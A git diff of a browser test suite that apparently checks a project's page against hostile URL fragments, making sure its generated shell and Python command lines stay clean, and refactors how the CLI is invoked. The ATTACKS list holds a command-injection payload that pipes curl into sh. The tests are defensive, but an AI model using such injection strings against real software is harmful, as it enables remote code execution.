@@ -5,10 +5,9 @@ import re
 import shlex
 
 import pytest
-from typer.testing import CliRunner
 
-from sterling.cli.verbs import app
-from tests.browsing import drawn, look, text, visit
+from tests.browsing import drawn, look, text, turn
+from tests.support import call
 
 ATTACKS = (
     "#n=4&samples=50&schedule=power:0.5,0.5:;curl%20x|sh%0A",
@@ -63,40 +62,34 @@ FUZZ = """
 def test_hostile_addresses_leave_the_lines_clean(driver, address):
     look(driver, "light", 1280)
     for attack in ATTACKS:
-        visit(driver, address + attack)
+        turn(driver, address + attack, drawn)
         line = driver.find_element("id", "shell").text
         assert SHELL.fullmatch(line), line
         assert "id" not in line.replace("identity", ""), line
     patterns = (f"^{pattern.pattern}$" for pattern in (SHELL, PYTHON))
-    bad, lines, placed = driver.execute_script(FUZZ, 100_000, *patterns, KEYS, PIECES)
+    bad, lines, placed = driver.execute_script(FUZZ, 20_000, *patterns, KEYS, PIECES)
     assert bad == []
-    assert len(lines) > 60
-    assert placed > 100
-    for line in lines[:: len(lines) // 30]:
+    assert len(lines) > 40
+    assert placed > 20
+    for line in lines[:: len(lines) // 20]:
         program, verb, *words = shlex.split(line)
         assert (program, verb) == ("sterling", "train")
-        options = dict(zip(words[::2], words[1::2], strict=True)) | {
-            "--n": "4",
-            "--samples": "20",
-            "--steps": "3",
-        }
-        done = CliRunner().invoke(
-            app, ["train", *(word for pair in options.items() for word in pair), "--quiet"]
-        )
-        assert done.exit_code == 0, (line, done.output)
+        small = {"--n": "4", "--samples": "20", "--steps": "3"}
+        options = dict(zip(words[::2], words[1::2], strict=True)) | small
+        call("train", *(word for pair in options.items() for word in pair), "--quiet")
 
 
 def test_an_address_that_makes_no_sense_does_no_harm(driver, address):
     look(driver, "light", 1280)
     driver.get_log("browser")
-    visit(
+    turn(
         driver,
         f"{address}#n=1e9&samples=-3&noise=<b>&surrogate=sigmoid&schedule=power:9e9,9&story=77&at=x&seed=1.5",
     )
     settings = driver.execute_script("return sterling.page.settings")
     assert settings["n"] == 12
     assert settings["surrogate"] == "relu"
-    visit(driver, f"{address}#n=256&samples=99999&m=8&noise=0")
+    turn(driver, f"{address}#n=256&samples=99999&m=8&noise=0", drawn)
     settings = driver.execute_script("return sterling.page.settings")
     assert settings["n"] * settings["samples"] * settings["m"] <= 1 << 23
     assert driver.get_log("browser") == []
@@ -106,7 +99,7 @@ def test_an_address_that_makes_no_sense_does_no_harm(driver, address):
 def test_lines_beside_a_state_make_the_same_run(driver, address, step):
     """The page at a state of the story, what it shows there, and both of its lines, carried out."""
     look(driver, "light", 1280)
-    visit(driver, f"{address}#story={step}&at=1500", drawn)
+    turn(driver, f"{address}#story={step}&at=1500", drawn)
     shown = driver.execute_script("return sterling.page.run.visited()")
     latent = driver.execute_script("return [...sterling.page.run.latents()]")
     assert text(driver, "#clock") == "1,500"
@@ -122,9 +115,7 @@ def test_lines_beside_a_state_make_the_same_run(driver, address, step):
     assert text(driver, "#is-returns") == f"{len(orbit.return_times):,}"
     program, *words = shlex.split(text(driver, "#shell"))
     assert program == "sterling"
-    result = CliRunner().invoke(app, [*words, "--json", "--quiet"])
-    assert result.exit_code == 0, result.output
-    summary = json.loads(result.stdout)
+    summary = json.loads(call(*words, "--json", "--quiet").stdout)
     assert (summary["visits"], summary["errors"]) == (shown["visits"], orbit.errors)
     assert summary["verdict"] == orbit.verdict.name
 
@@ -139,7 +130,7 @@ def test_lines_beside_a_state_make_the_same_run(driver, address, step):
     ],
 )
 def test_lines_hold_every_setting(driver, address, settings):
-    visit(driver, address)
+    turn(driver, address, drawn)
     script = """
         const settings = {...sterling.storySettings(1), ...arguments[0]};
         return [sterling.pythonLine(settings, 1234567), sterling.shellLine(settings, 1234567)];
@@ -147,19 +138,10 @@ def test_lines_hold_every_setting(driver, address, settings):
     python, shell = driver.execute_script(script, settings)
     namespace = {}
     exec(python.replace("1_234_567", "500"), namespace)
-    result = CliRunner().invoke(app, [*shlex.split(shell.replace("1234567", "500"))[1:], "--json", "--quiet"])
-    summary, orbit = json.loads(result.stdout), namespace["orbit"]
-    for name in (
-        "occupancy",
-        "visits",
-        "errors",
-        "ergodic_errors",
-        "schedule",
-        "restart",
-        "surrogate",
-        "optimizer",
-        "steps",
-    ):
+    words = shlex.split(shell.replace("1234567", "500"))[1:]
+    summary, orbit = json.loads(call(*words, "--json", "--quiet").stdout), namespace["orbit"]
+    same = ("occupancy", "visits", "errors", "ergodic_errors", "schedule", "restart", "optimizer", "steps")
+    for name in (*same, "surrogate"):
         assert summary[name] == orbit.to_dict()[name], name
     assert summary["surrogate"] == settings["surrogate"]
     assert summary["optimizer"]["damping"] == settings.get("damping", 0)
